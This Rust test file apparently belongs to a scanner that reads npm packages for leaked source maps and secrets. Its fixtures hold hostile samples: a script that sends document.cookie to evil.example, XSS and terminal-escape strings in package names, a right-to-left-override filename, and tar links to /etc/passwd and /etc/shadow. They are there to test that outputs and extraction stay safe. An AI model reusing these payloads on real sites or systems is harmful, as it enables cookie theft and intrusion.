/// An index map whose section holds an index map, and so on, `levels` deep, the innermost a
/// regular map embedding `inner.ts`.
fn nested_index_map(levels: usize) -> String {
    let open = r#"{"version":3,"sections":[{"offset":{"line":0,"column":0},"map":"#;
    let inner = r#"{"version":3,"sources":["inner.ts"],"sourcesContent":["deep inside"],"mappings":"AAAA"}"#;
    format!("{}{inner}{}", open.repeat(levels), "}]}".repeat(levels))
}

#[test]
fn index_maps_nested_deeper_than_the_json_limit_are_not_read() {
    // 66,667 levels: 200,000 deep in the JSON.
    let tgz = Tarball::new("package/")
        .package_json("nest", Some("MIT"))
        .file("deep.js.map", nested_index_map(66_667))
        .file("ok.js.map", nested_index_map(3))
        .tgz();
    let started = Instant::now();
    let s = session(&tgz);
    let took = started.elapsed();
    eprintln!("index maps nested 200,000 deep in JSON: {took:?} (debug build)");
    assert!(took < Duration::from_secs(60), "{took:?}");
    let [deep, ok] = &s.analysis.source_maps[..] else {
        panic!("two maps")
    };
    assert_eq!((deep.sources, deep.sources_with_content), (0, 0));
    assert_eq!(deep.limits.len(), 1);
    assert_eq!(
        deep.limits[0].message,
        "deep.js.map nests 1 map deeper than the 64 levels of JSON Leakscope follows: what it \
         embeds was not checked."
    );
    assert!(
        deep.problems.last().unwrap().ends_with(
            "section 0: section 0: section 0: section 0: section 0: section 0: section 0: \
             section 0: section 0: section 0: section 0: section 0: section 0: section 0: \
             section 0: section 0: section 0: section 0: section 0: section 0: section 0 sits \
             67 levels deep in the JSON, past the 64 levels Leakscope follows, so it was not read"
        ),
        "{:?}",
        deep.problems.last()
    );
    // Nested within the limit: read, counted, recovered, flagged.
    assert_eq!((ok.sources, ok.sources_with_content), (1, 1));
    assert_eq!(
        ok.problems[0],
        "section 0: an index map is nested inside another (ECMA-426 forbids it; React Native's \
         Metro writes them); it is read all the same"
    );
    assert!(ok.limits.is_empty());
    assert!(
        s.analysis
            .recovered
            .files()
            .iter()
            .any(|f| f.path == "inner.ts"),
        "recovered"
    );
    let unreadable: Vec<&str> = s
        .analysis
        .findings
        .iter()
        .filter(|f| f.rule == RuleId::SourcemapUnreadable)
        .map(|f| f.path.as_str())
        .collect();
    assert_eq!(unreadable, ["deep.js.map"]);
    assert_eq!(s.verdict.level, Level::Incomplete);
    assert!(
        s.verdict.summary.starts_with(
            "Read 3 files (4.4 MB), but not all of it: deep.js.map nests 1 map deeper than the \
             64 levels of JSON Leakscope follows: what it embeds was not checked. In the part \
             that was read: Leaks 1 of its own source file (11 B) through 1 orphaned source \
             map, under an open-source licence MIT."
        ),
        "{}",
        s.verdict.summary
    );
}

#[test]
fn metro_maps_nested_in_sections_and_segments_are_read_and_flagged() {
    // A RAM bundle's map as Metro writes it: an index map whose sections hold index maps,
    // and more maps under `x_facebook_segments`.
    let module = |name: &str, text: &str| serde_json::json!({"version": 3, "sources": [name], "sourcesContent": [text], "names": [], "mappings": "AAAA"});
    let map = serde_json::json!({
        "version": 3,
        "file": "main.jsbundle",
        "sections": [
            {"offset": {"line": 0, "column": 0}, "map": module("src/startup.js", "startup()")},
            {"offset": {"line": 10, "column": 0}, "map": {
                "version": 3,
                "sections": [
                    {"offset": {"line": 0, "column": 0}, "map": module("src/screens/Home.tsx", "home")},
                    {"offset": {"line": 5, "column": 0}, "map": module("node_modules/react/index.js", "react")},
                ]
            }},
        ],
        "x_facebook_segments": {
            "1": module("src/segment/one.ts", "one"),
            "2": {"version": 3, "sections": [
                {"offset": {"line": 0, "column": 0}, "map": module("src/segment/two.ts", "two")}
            ]},
        },
        "x_facebook_offsets": [0, 10, 20],
    })
    .to_string();
    let tgz = Tarball::new("package/")
        .package_json("@acme/app", Some("UNLICENSED"))
        .file("main.jsbundle.map", &map)
        .tgz();
    let s = session(&tgz);
    let m = &s.analysis.source_maps[0];
    assert_eq!(
        (m.sources, m.sources_with_content, m.first_party),
        (5, 5, 4)
    );
    let mut recovered: Vec<&str> = s
        .analysis
        .recovered
        .files()
        .iter()
        .map(|f| f.path.as_str())
        .collect();
    recovered.sort();
    assert_eq!(
        recovered,
        [
            "node_modules/react/index.js",
            "src/screens/Home.tsx",
            "src/segment/one.ts",
            "src/segment/two.ts",
            "src/startup.js"
        ]
    );
    assert_eq!(
        m.problems,
        [
            "section 1: an index map is nested inside another (ECMA-426 forbids it; React \
             Native's Metro writes them); it is read all the same",
            "`x_facebook_segments` holds more maps (React Native's Metro writes them; they are \
             not part of ECMA-426); they are read all the same",
            "segment 2: an index map is nested inside another (ECMA-426 forbids it; React \
             Native's Metro writes them); it is read all the same",
        ]
    );
    assert!(m.limits.is_empty());
    let malformed = finding(&s, RuleId::SourcemapMalformed);
    assert!(
        malformed.message.starts_with(
            "This orphaned source map (no file references it) breaks the source map format: \
             section 1: an index map is nested inside another"
        ),
        "{}",
        malformed.message
    );
    assert_eq!(s.verdict.level, Level::Critical);
    let (written, _) = extract_confined(&tgz);
    assert_eq!(written.len(), 5);
    assert_eq!(zip_names(&s).len(), 5);
    // The streaming reader (maps arriving in pieces) gives the same.
    let mut stream = leakscope::source_map::MapStream::new(
        leakscope::source_map::Mappings::Check,
        leakscope::source_map::Texts::Keep,
    );
    for end in (0..map.len()).step_by(7) {
        stream.feed(&map.as_bytes()[..end]);
    }
    assert_eq!(
        stream.finish(map.as_bytes()),
        leakscope::source_map::SourceMap::parse(map.as_bytes())
    );
}

/// A map of `n` sources, each embedding a few bytes.
fn many_sources(n: usize) -> String {
    let mut json = String::from(r#"{"version":3,"sources":["#);
    for i in 0..n {
        json.push_str(if i == 0 { "\"" } else { ",\"" });
        json.push_str(&format!("src/{i}.ts\""));
    }
    json.push_str(r#"],"sourcesContent":["#);
    for i in 0..n {
        json.push_str(if i == 0 { "\"" } else { ",\"" });
        json.push_str(&format!("export const x{i} = {i};\""));
    }
    json.push_str(r#"],"names":[],"mappings":"AAAA"}"#);
    json
}

#[test]
fn a_map_with_three_hundred_thousand_sources_is_cut_at_the_limit() {
    let tgz = Tarball::new("package/")
        .package_json("many", Some("MIT"))
        .file("dist/a.js.map", many_sources(300_000))
        .tgz();
    let started = Instant::now();
    let s = session(&tgz);
    eprintln!(
        "300,000 sources, 100,000 read, in {:?} (debug build)",
        started.elapsed()
    );
    let m = &s.analysis.source_maps[0];
    assert_eq!((m.sources, m.sources_with_content), (100_000, 100_000));
    assert_eq!(s.analysis.recovered.len(), 100_000);
    let message = "dist/a.js.map lists 300,000 sources, more than the 100,000 Leakscope reads \
                   in one source map: the first 100,000 were read, the rest were not checked.";
    assert_eq!(m.limits[0].message, message);
    assert_eq!(
        (m.limits[0].limit, m.limits[0].value),
        (Limit::MapSources, 100_000)
    );
    let f = finding(&s, RuleId::SourcemapUnreadable);
    assert_eq!(
        f.message,
        format!(
            "This orphaned source map (no file references it) could not be read in full: {message}"
        )
    );
    assert_eq!(
        f.remedy,
        "Check the rest of the map by hand; the command-line tool reads more with --max-map-sources."
    );
    assert_eq!(s.verdict.level, Level::Incomplete);
    assert_eq!(s.verdict.worst, Level::Low);
    assert!(s.verdict.summary.ends_with(
        "In the part that was read: Leaks 100,000 of its own source files (2.8 MB) through 1 orphaned source map, under an open-source licence MIT."
    ), "{}", s.verdict.summary);
    // Raised, all of them are read.
    let started = Instant::now();
    let all = session_with(
        &tgz,
        Limits {
            max_map_sources: 300_000,
            ..Limits::default()
        },
    );
    eprintln!(
        "300,000 sources read in {:?} (debug build)",
        started.elapsed()
    );
    assert_eq!(all.analysis.recovered.len(), 300_000);
    assert!(all.analysis.limits_hit.is_empty());
    assert_eq!(all.verdict.level, Level::Low);
}

#[test]
fn lines_of_ten_million_characters() {
    let long_line = "a".repeat(10_000_000);
    let js = format!("var x='{long_line}';//# sourceMappingURL=a.js.map");
    let map = format!(
        r#"{{"version":3,"sources":["src/a.ts"],"sourcesContent":["{long_line}"],"names":[],"mappings":"{}"}}"#,
        "AAAA,".repeat(2_000_000) + "AAAA"
    );
    let tgz = Tarball::new("package/")
        .package_json("long", Some("MIT"))
        .file("a.js", &js)
        .file("a.js.map", &map)
        .tgz();
    let started = Instant::now();
    let s = session(&tgz);
    let took = started.elapsed();
    eprintln!("10^7-character lines scanned in {took:?} (debug build)");
    assert!(took < Duration::from_secs(30), "{took:?}");
    assert_eq!(s.analysis.refs[0].target, "a.js.map");
    let m = &s.analysis.source_maps[0];
    assert!(m.referenced && m.problems.is_empty(), "{:?}", m.problems);
    assert_eq!(m.content_bytes, 10_000_000);
    assert_eq!(s.verdict.level, Level::Low);
}

#[test]
fn invalid_utf8_in_names_and_contents() {
    let token = crate::common::github_token();
    let mut text = b"\xff\xfe const t = '".to_vec();
    text.extend(token.as_bytes());
    text.extend(b"'; \xc3\x28\n");
    let tgz = Tarball::new("")
        .file_named("package/bad-\u{0}\u{1}name.js", "x", Naming::Raw)
        .raw(
            &[
                raw_header(b"package/\xff\xfename.js", b'0', text.len() as u64, b"").to_vec(),
                padded(&text),
            ]
            .concat(),
        )
        .file_named(
            "package/a.js.map",
            b"{\"version\":3,\"sources\":[\"\xff\"]}",
            Naming::Raw,
        )
        .tgz();
    let s = session(&tgz);
    assert_eq!(listed(&s), ["bad-", "\u{fffd}\u{fffd}name.js", "a.js.map"]);
    // The token is found among bytes that are not UTF-8.
    assert!(
        s.analysis
            .findings
            .iter()
            .any(|f| f.rule.is_secret() && f.path == "\u{fffd}\u{fffd}name.js"),
        "{:?}",
        rules(&s)
    );
    let m = &s.analysis.source_maps[0];
    assert!(
        m.error
            .as_deref()
            .is_some_and(|e| e.starts_with("not valid JSON")),
        "{:?}",
        m.error
    );
    // Every output stays valid.
    json_report(&s);
    serde_json::from_str::<serde_json::Value>(&leakscope::report::sarif(&s)).unwrap();
    // A map whose source names are not UTF-8 (read whole, they become U+FFFD).
    let map = b"{\"version\":3,\"sources\":[\"src/\xff\xfe.ts\"],\"sourcesContent\":[\"\xc3\x28\"],\"mappings\":\"\"}";
    let tgz = Tarball::new("package/").file("b.js.map", &map[..]).tgz();
    let s = session(&tgz);
    assert!(
        s.analysis.source_maps[0].error.is_some(),
        "not UTF-8: not JSON"
    );
    extract_confined(&tgz);
}

// ---------------------------------------------------------------------------------------
// Payloads in names, fields and contents

/// Hostile names: they must not break a table, a terminal or a JSON document.
const NAMES: [&str; 6] = [
    "| x |.js",
    "a`b`c.js",
    "line\nbreak.js",
    "<script>alert(1)</script>.js",
    "\u{1b}[31mred\u{1b}]0;title\u{7}.js",
    "evil\u{202e}sj.exe",
];

fn payload_package() -> Vec<u8> {
    let mut tar = Tarball::new("package/").file(
        "package.json",
        serde_json::json!({
            "name": "<img src=x onerror=alert(1)>|`x`\u{1b}[2J\u{9b}2J\u{202e}",
            "version": "1.0.0\n| injected | row |",
            "license": "<b>UNLICENSED</b>",
        })
        .to_string(),
    );
    for name in NAMES {
        // Each a finding: a private key file name is reported wherever it is.
        tar = tar.file_named(
            &format!("{name}/id_rsa"),
            "-----BEGIN OPENSSH PRIVATE KEY-----\nx\n",
            Naming::Gnu,
        );
    }
    tar.file(
        "index.html",
        "<script>fetch('//evil.example/'+document.cookie)</script>",
    )
    .tgz()
}

/// Every Markdown table's rows have as many unescaped `|` as its header.
fn tables_intact(md: &str) {
    let mut header = None;
    for line in md.lines() {
        if !line.starts_with('|') {
            header = None;
            continue;
        }
        let b = line.as_bytes();
        let borders = (0..b.len())
            .filter(|&i| b[i] == b'|' && (i == 0 || b[i - 1] != b'\\'))
            .count();
        match header {
            None => header = Some(borders),
            Some(n) => assert_eq!(borders, n, "a broken row: {line}"),
        }
    }
}

#[test]
fn html_and_script_payloads_stay_text_in_every_format() {
    let s = session(&payload_package());
    assert_eq!(s.analysis.files, 8);
    let keys: Vec<&str> = s
        .analysis
        .findings
        .iter()
        .filter(|f| f.rule == RuleId::PrivateKeyFile)
        .map(|f| f.path.as_str())
        .collect();
    assert_eq!(keys.len(), NAMES.len(), "{keys:?} {:?}", listed(&s));
    // JSON: valid, names kept as they are.
    let json = json_report(&s);
    assert_eq!(
        json["package"]["name"],
        "<img src=x onerror=alert(1)>|`x`\u{1b}[2J\u{9b}2J\u{202e}"
    );
    let sarif: serde_json::Value =
        serde_json::from_str(&leakscope::report::sarif(&s)).expect("valid SARIF JSON");
    assert_eq!(sarif["version"], "2.1.0");
    let uris: Vec<&str> = sarif["runs"][0]["results"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
                .as_str()
                .unwrap()
        })
        .collect();
    assert!(
        uris.iter().all(|u| !u.contains(['\n', ' ', '|', '<', '`'])),
        "{uris:?}"
    );
    // Markdown: no HTML, tables whole.
    let md = leakscope::report::markdown(&s);
    tables_intact(&md);
    // HTML only ever inside a code span, where it is text.
    for line in md.lines() {
        let outside_code: String = line.split('`').step_by(2).collect();
        assert!(!outside_code.contains('<'), "{line}");
    }
    assert!(!md.chars().any(|c| c.is_control() && c != '\n'), "{md}");
    // Recovered sources named the same way are written inside the folder.
    let map = source_map(&NAMES.map(|n| (n, Some("x"))));
    let tgz = Tarball::new("package/").file("a.js.map", map).tgz();
    let (written, _) = extract_confined(&tgz);
    assert_eq!(written.len(), NAMES.len(), "{written:?}");
    assert!(
        written.iter().all(|w| !w.chars().any(char::is_control)),
        "{written:?}"
    );
    assert_eq!(zip_names(&session(&tgz)).len(), NAMES.len());
}

#[test]
fn the_terminal_never_gets_a_control_sequence_from_the_package() {
    let dir = tempfile::tempdir().unwrap();
    let pkg = write_temp(&dir, "payload.tgz", &payload_package());
    let map = source_map(&[
        ("src/\u{1b}]0;owned\u{7}x.ts", Some("x")),
        ("\u{1b}[2J", Some("y")),
    ]);
    let old = write_temp(
        &dir,
        "old.tgz",
        &Tarball::new("package/")
            .file("\u{1b}[31mold.js", "x")
            .file("a.js.map", map)
            .tgz(),
    );
    let runs = [
        vec!["scan".into(), pkg.clone().into_os_string()],
        vec![
            "scan".into(),
            pkg.clone().into_os_string(),
            "--format".into(),
            "json".into(),
        ],
        vec![
            "scan".into(),
            pkg.clone().into_os_string(),
            "--format".into(),
            "sarif".into(),
        ],
        vec![
            "scan".into(),
            pkg.clone().into_os_string(),
            "--format".into(),
            "markdown".into(),
        ],
        vec![
            "diff".into(),
            old.clone().into_os_string(),
            pkg.clone().into_os_string(),
            "--format".into(),
            "markdown".into(),
        ],
        vec![
            "diff".into(),
            old.clone().into_os_string(),
            pkg.clone().into_os_string(),
            "--format".into(),
            "json".into(),
        ],
        vec!["scan".into(), old.clone().into_os_string()],
        vec![
            "diff".into(),
            old.clone().into_os_string(),
            pkg.clone().into_os_string(),
        ],
        vec![
            "extract".into(),
            old.clone().into_os_string(),
            "-o".into(),
            dir.path().join("out").into_os_string(),
        ],
        // An input error that quotes the package.
        vec![
            "scan".into(),
            write_temp(&dir, "\u{1b}[2Jcut.tgz", &payload_package()[..40]).into_os_string(),
        ],
    ];
    for args in runs {
        let out = leakscope().args(&args).output().unwrap();
        for (what, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
            let text = String::from_utf8_lossy(bytes);
            assert!(
                !text
                    .chars()
                    .any(|c| (c.is_control() && c != '\n') || matches!(c, '\u{202a}'..='\u{202e}')),
                "{args:?} {what}: {text:?}"
            );
        }
    }
}

/// Writes the corpus's small cases as seeds for the fuzz targets (`scripts/fuzz` runs it):
/// `LEAKSCOPE_FUZZ_SEEDS=DIR cargo test --test native write_fuzz_seeds -- --ignored`.
/// Each seed starts with the targets' mode byte: 0 for the bytes as they are, 1 for a tar
/// the target compresses itself.
#[test]
#[ignore]
fn write_fuzz_seeds() {
    let Some(dir) = std::env::var_os("LEAKSCOPE_FUZZ_SEEDS") else {
        return;
    };
    let dir = std::path::PathBuf::from(dir);
    let metro = serde_json::json!({
        "version": 3,
        "sections": [{"offset": {"line": 0, "column": 0}, "map": serde_json::from_str::<serde_json::Value>(&nested_index_map(2)).unwrap()}],
        "x_facebook_segments": {"1": serde_json::from_str::<serde_json::Value>(&source_map(&[("src/a.ts", Some("a"))])).unwrap()},
    })
    .to_string();
    let tars: Vec<(&str, Vec<u8>)> = vec![
        ("leaky", crate::cli::leaky_tarball().tar()),
        (
            "links",
            Tarball::new("package/")
                .file("index.js", "x\n//# sourceMappingURL=index.js.map")
                .symlink("a", "../../etc/passwd")
                .hardlink("b", "/etc/shadow")
                .file("index.js.map", source_map(&[("../../x.ts", Some("x"))]))
                .tar(),
        ),
        (
            "names",
            Tarball::new("package/")
                .file_named(&format!("{}/a.js", "d".repeat(120)), "gnu", Naming::Gnu)
                .file_named(&format!("{}/b.js", "e".repeat(120)), "ustar", Naming::Ustar)
                .file_named("pax/é.js", "pax", Naming::Pax)
                .file_named("../../raw.js", "raw", Naming::Raw)
                .dir("lib")
                .file("a.js", "dup")
                .file("a.js", "dup2")
                .tar(),
        ),
        (
            "long-names",
            Tarball::new("package/")
                .raw(&long_name(b"package/one"))
                .raw(&long_name(b"package/two"))
                .raw(&raw_header(b"p", b'0', 1, b""))
                .raw(&padded(b"x"))
                .tar(),
        ),
        (
            "maps",
            Tarball::new("package/")
                .package_json("@acme/app", Some("UNLICENSED"))
                .file("main.jsbundle.map", &metro)
                .file("nested.js.map", nested_index_map(30))
                .file(
                    "inline.js",
                    "x\n//# sourceMappingURL=data:application/json;base64,eyJ2ZXJzaW9uIjozLCJzb3VyY2VzIjpbImEudHMiXSwic291cmNlc0NvbnRlbnQiOlsieCJdLCJtYXBwaW5ncyI6IkFBQUEifQ==",
                )
                .file(".env", "TOKEN=x")
                .file("a.css", "a{}/*# sourceMappingURL=a.css.map */")
                .tar(),
        ),
        (
            "sparse-and-pax",
            Tarball::new("package/")
                .raw(&raw_header(b"package/sparse", b'S', 0, b""))
                .raw(&{
                    let mut b = tar::Builder::new(Vec::new());
                    b.append_pax_extensions([("size", &b"99"[..]), ("path", &b"package/p.js"[..])])
                        .unwrap();
                    b.into_inner().unwrap()
                })
                .tar(),
        ),
    ];
    let mut seeds: Vec<(String, Vec<u8>)> = Vec::new();
    for (name, tar) in &tars {
        seeds.push((format!("{name}.tar"), [&[1u8][..], tar].concat()));
        seeds.push((format!("{name}.tgz"), [&[0u8][..], &gzip(tar)].concat()));
    }
    seeds.push((
        "payload.tgz".into(),
        [&[0u8][..], &payload_package()].concat(),
    ));
    seeds.push(("bomb.tgz".into(), [&[0u8][..], &bomb(8 << 20, 2)].concat()));
    seeds.push((
        "members.tgz".into(),
        [&[0u8][..], &gzip(b"a"), &gzip(&tars[0].1)].concat(),
    ));
    // The zip family, taken as they are (an even mode byte).
    for (name, zip) in crate::hostile_zip::seeds() {
        seeds.push((name, [&[0u8][..], &zip].concat()));
    }
    // The tc39 source-map suite, a package per case (`case.js` and its map).
    let tc39 = Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/source-map-tests/resources");
    if let Ok(dir) = std::fs::read_dir(&tc39) {
        for e in dir.flatten() {
            let path = e.path();
            let name = path.file_name().unwrap().to_string_lossy().into_owned();
            let Some(case) = name.strip_suffix(".js.map") else {
                continue;
            };
            let mut tar = Tarball::new("package/").file(&name, std::fs::read(&path).unwrap());
            if let Ok(js) = std::fs::read(tc39.join(format!("{case}.js"))) {
                tar = tar.file(&format!("{case}.js"), js);
            }
            seeds.push((
                format!("tc39-{case}.tgz"),
                [&[0u8][..], &tar.tgz()].concat(),
            ));
        }
    }
    for target in ["archive", "analyse"] {
        let at = dir.join(target);
        std::fs::create_dir_all(&at).unwrap();
        for (name, bytes) in &seeds {
            std::fs::write(at.join(format!("hostile-{name}")), bytes).unwrap();
        }
    }
    let maps = dir.join("maps");
    std::fs::create_dir_all(&maps).unwrap();
    for (name, json) in [
        ("metro", metro.clone()),
        ("nested", nested_index_map(25)),
        ("many", many_sources(20)),
        (
            "leaky",
            source_map(&crate::cli::LEAKY_SOURCES.map(|(p, c)| (p, Some(c)))),
        ),
    ] {
        for mode in [0u8, 1, 2, 0x20] {
            std::fs::write(
                maps.join(format!("hostile-{name}-{mode}")),
                [&[mode][..], json.as_bytes()].concat(),
            )
            .unwrap();
        }
    }
    let refs = dir.join("references");
    std::fs::create_dir_all(&refs).unwrap();
    if let Ok(dir) = std::fs::read_dir(&tc39) {
        for e in dir
            .flatten()
            .filter(|e| e.path().extension().is_some_and(|x| x == "js"))
        {
            let name = e.file_name().to_string_lossy().into_owned();
            std::fs::copy(e.path(), refs.join(format!("tc39-{name}"))).unwrap();
        }
    }
    for (i, text) in [
        "a()\n//# sourceMappingURL=a.js.map\n",
        "//@ sourceMappingURL=../../../etc/x.map?v=1#h",
        "a{}\n/*# sourceMappingURL=data:application/json;base64,e30= */",
        "//# sourceMappingURL=https://user:pw@maps.corp.internal/a.map",
        "//# sourceMappingURL=data:text/json,%7B%22version%22%3A3%7D",
        "x='//# sourceMappingURL=fake'\n/*# sourceMappingURL=..%2F..%2Fx.map */",
    ]
    .iter()
    .enumerate()
    {
        std::fs::write(refs.join(format!("hostile-{i}")), text).unwrap();
    }
}

#[test]
fn limits_are_options_with_plain_errors() {
    let dir = tempfile::tempdir().unwrap();
    let map = source_map(&[
        ("src/a.ts", Some("a")),
        ("src/b.ts", Some("b")),
        ("src/c.ts", Some("c")),
    ]);
    let pkg = write_temp(
        &dir,
        "three.tgz",
        &Tarball::new("package/")
            .package_json("three", Some("MIT"))
            .file("a.js.map", map)
            .tgz(),
    );
    // Extract writes what was read and says what was not.
    let out_dir = dir.path().join("out");
    let out = leakscope()
        .arg("extract")
        .arg(&pkg)
        .arg("-o")
        .arg(&out_dir)
        .args(["--max-map-sources", "2"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0));
    assert_eq!(files_under(&out_dir), ["src/a.ts", "src/b.ts"]);
    assert_eq!(
        String::from_utf8(out.stderr).unwrap(),
        "leakscope: warning: a.js.map lists 3 sources, more than the 2 Leakscope reads in one \
         source map: the first 2 were read, the rest were not checked. (--max-map-sources 2 \
         sources)\n"
    );
    // Scan: incomplete, exit 2.
    let out = leakscope()
        .arg("scan")
        .arg(&pkg)
        .args(["--max-map-sources", "2"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    // Values people write, and plain words for the others.
    for (option, value, error) in [
        (
            "--max-size",
            "lots",
            "\"lots\" is not a number (try 1GiB, 512MiB, 100k)",
        ),
        (
            "--max-entries",
            "1GiB",
            "\"1GiB\": unknown unit \"GiB\" (use k, M, Ki or Mi)",
        ),
        (
            "--max-json-depth",
            "500",
            "at most 128: the JSON parser never nests deeper",
        ),
        ("--max-file-size", "0", "\"0\": a limit is at least 1"),
    ] {
        let out = leakscope()
            .arg("scan")
            .arg(&pkg)
            .args([option, value])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(2));
        let stderr = String::from_utf8(out.stderr).unwrap();
        assert!(stderr.contains(error), "{option} {value}: {stderr}");
    }
    let ok = leakscope()
        .arg("scan")
        .arg(&pkg)
        .args([
            "--max-size",
            "512MiB",
            "--max-entries",
            "2M",
            "--max-path-length",
            "100k",
        ])
        .output()
        .unwrap();
    assert_eq!(
        ok.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&ok.stderr)
    );
    let help = leakscope().args(["scan", "--help"]).output().unwrap();
    let help = String::from_utf8(help.stdout).unwrap();
    for option in Limit::ALL.map(Limit::option) {
        assert!(help.contains(option), "{option} in --help");
    }
    assert!(help.contains("--max-size <SIZE>"), "{help}");
    assert!(help.contains("[default: 1GiB]"), "{help}");
}
